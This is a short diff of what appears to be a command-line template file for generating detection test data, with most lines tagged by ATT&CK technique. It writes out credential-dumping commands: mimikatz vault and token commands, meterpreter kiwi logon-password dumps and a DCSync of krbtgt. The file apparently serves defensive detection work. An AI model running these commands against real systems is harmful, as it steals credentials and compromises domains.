@@ -118,7 +118,7 @@ mimikatz-other-cache cmd +T1003.005: «mimikatz¦mimi¦m64».exe "token::elevate
 mimikatz-other-vault cmd +T1555.004: «mimikatz¦mimi¦m64».exe "vault::«cred¦list»" exit
 mimikatz-name cmd: «del¦dir¦certutil -hashfile¦attrib» ‹dir›\«mimikatz¦mimi¦m64¦pwdump7¦gsecdump¦fgdump».«zip¦exe¦txt»
 kiwi-other text +T1003.001: meterpreter > «creds_all¦creds_msv¦kiwi_cmd sekurlsa::logonpasswords¦load kiwi; creds_wdigest»
-kiwi-dcsync text +T1003.006: meterpreter > dcsync_ntlm «krbtgt¦‹domain›\\\\‹user›»
+kiwi-dcsync text +T1003.006: meterpreter > dcsync_ntlm «krbtgt¦‹domain›\\‹user›»
 backup-hives cmd: "C:\Program Files\«Veeam\‹name›.exe¦Acronis\‹name›.exe¦Commvault\‹name›.exe»" backup --include «system-state¦D:\‹project›¦C:\Users\sam»
 curl-other cmd: «curl¦curl.exe» -«T ‹dir›\‹name›.log¦o ‹dir›\sam-cli.msi» https://‹server›.‹fqdn›/‹name›
 task-other cmd: schtasks /create /tn ‹name› /tr "«cmd /c ¦»reg export HKCU\Software\‹Word› ‹dir›\‹name›.reg /y" /sc daily /st 03:00
